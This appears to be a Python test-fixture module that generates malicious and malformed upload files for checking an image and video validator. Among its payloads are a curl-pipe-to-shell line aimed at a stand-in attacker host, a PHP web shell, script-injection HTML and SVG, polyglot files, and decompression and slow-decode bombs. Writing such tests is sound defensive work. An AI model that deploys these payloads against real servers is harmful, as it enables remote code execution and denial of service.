"""Pictures and films, good and bad, as the bytes that people send."""

import io
import struct
import zipfile
import zlib
from typing import Any

from PIL import Image

from tests.files import films

RED = (200, 30, 30)
BLUE = (30, 30, 200)
MP4 = films.mp4()
WEBM = films.webm()
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 80
AVIF = b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\0" * 80
QUICKTIME = b"\0\0\0\x14ftypqt  \0\0\0\0qt  " + b"\0" * 80
MATROSKA = WEBM.replace(b"\x84webm", b"\x88matroska")
AVI = b"RIFF\x64\0\0\0AVI LIST" + b"\0" * 80
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
PAGE_AND_FILM = b"<!--ftypmp42--><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SCRIPT = b"#!/bin/sh\ncurl evil.example | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"


def picture(
    format: str = "PNG",
    size: tuple[int, int] = (64, 48),
    mode: str = "RGB",
    colour: Any = RED,
    **options: Any,
) -> bytes:
    """A picture of one colour, with its upper left quarter in blue."""
    image = Image.new("RGB", size, colour)
    image.paste(BLUE, (0, 0, size[0] // 2, size[1] // 2))
    file = io.BytesIO()
    image.convert(mode).save(file, format, **options)
    return file.getvalue()


def saved(image: Image.Image, format: str = "PNG", **options: Any) -> bytes:
    file = io.BytesIO()
    image.save(file, format, **options)
    return file.getvalue()


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    checksum = struct.pack(">I", zlib.crc32(kind + data))
    return struct.pack(">I", len(data)) + kind + data + checksum


def png_of(width: int, height: int, data: bytes = b"", *more: bytes) -> bytes:
    """A grey PNG that says it has this size, with any data."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = (chunk(b"IHDR", header), *more, chunk(b"IDAT", data), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def bomb() -> bytes:
    """A few kilobytes that become 900 MB."""
    rows = zlib.compressobj(9)
    data = b"".join(rows.compress(bytes(1_000_000)) for _ in range(50))
    return png_of(30_000, 30_000, data + rows.flush())


def text_bomb() -> bytes:
    """A small picture whose comment becomes 50 MB."""
    comment = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(50_000_000)))
    return png_of(1, 1, zlib.compress(b"\0\0"), comment)


def hundred_megapixels() -> bytes:
    """A header that announces as much, and nothing behind it."""
    return png_of(10_000, 10_000)


def just_too_many_pixels() -> bytes:
    return png_of(5_001, 5_000, zlib.compress(bytes(5_002 * 5_000)))


def wrong_checksum() -> bytes:
    return picture().replace(b"IDAT", b"IDAU")


def png_and_zip() -> bytes:
    file = io.BytesIO(picture())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("index.html", HTML)
    return file.getvalue()


def png_and_commented_zip() -> bytes:
    file = io.BytesIO(picture())
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("a.jar", b"")
        archive.comment = b"x" * 65_535
    return file.getvalue()


def jpeg_and_html() -> bytes:
    return picture("JPEG", comment=HTML)


def pdf_and_jpeg() -> bytes:
    return picture("JPEG", comment=PDF)


def png_and_php() -> bytes:
    return picture() + PHP


def scans(count: int, size: tuple[int, int] = (64, 48)) -> bytes:
    """A progressive JPEG of so many scans: its last is there again and again."""
    data = picture("JPEG", size, progressive=True)
    there, last = data.count(b"\xff\xda"), data.rindex(b"\xff\xda")
    return data[:-2] + data[last:-2] * (count - there) + data[-2:]


def thousand_scans() -> bytes:
    """A few kilobytes that take long to decode: 25 megapixels, a thousand times."""
    return scans(1000, (5000, 5000))


def zip_ends() -> bytes:
    """What makes a careless search for archives take hours."""
    return picture() + b"PK\x05\x06" * 1_200_000


def photo(orientation: int = 6) -> bytes:
    """A JPEG as a phone takes it: on its side, with who, where and when."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "Nosy Phones Inc."
    exif.get_ifd(0x8825).update({1: "N", 2: (41.0, 0.0, 30.0), 3: "E"})
    return picture("JPEG", exif=exif, comment=b"at home", xmp=b"<x:xmpmeta/>")


def bad_exif() -> bytes:
    return picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\x05\x01\x12\0\xff")


def moving(format: str) -> bytes:
    """A red picture that turns blue."""
    red, blue = (Image.new("RGB", (64, 48), colour) for colour in (RED, BLUE))
    return saved(red, format, save_all=True, append_images=[blue], lossless=True)


def deep_grey() -> bytes:
    """A middle grey, in 16 bits."""
    return saved(Image.new("I;16", (64, 48), 0x8000))


def see_through() -> bytes:
    return saved(Image.new("RGBA", (64, 48), (*RED, 128)))


def see_through_palette() -> bytes:
    image = Image.new("P", (64, 48), 0)
    image.putpalette([*RED, *BLUE])
    return saved(image, transparency=0)
